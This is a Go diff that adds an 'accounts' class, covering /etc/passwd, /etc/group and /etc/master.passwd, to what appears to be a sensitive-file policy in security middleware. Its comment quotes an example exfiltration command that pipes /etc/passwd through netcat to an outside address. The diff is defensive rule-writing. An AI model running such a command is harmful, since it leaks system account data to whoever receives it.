@@ -141,6 +141,15 @@ func DefaultClasses() []Class {
 			Deny: denyReadWriteDelete, Risk: middleware.RiskHigh,
 		},
 		{
+			// The system's accounts and groups: read every day (getent,
+			// id, a container's entrypoint), so alone only logged; sent to
+			// the network they are a survey of the machine for whoever
+			// receives it ("cat /etc/passwd | nc 198.51.100.7 4444").
+			Name: "accounts", What: "the system's list of accounts or groups",
+			Globs: []string{"/etc/passwd", "/etc/group", "/etc/master.passwd"},
+			Deny:  []middleware.EffectOp{middleware.EffectRead}, Risk: middleware.RiskLow,
+		},
+		{
 			// The environment and shell histories hold tokens and
 			// passwords typed or exported, but reading them is everyday
 			// work (env | grep NODE, history | tail): only logged alone,
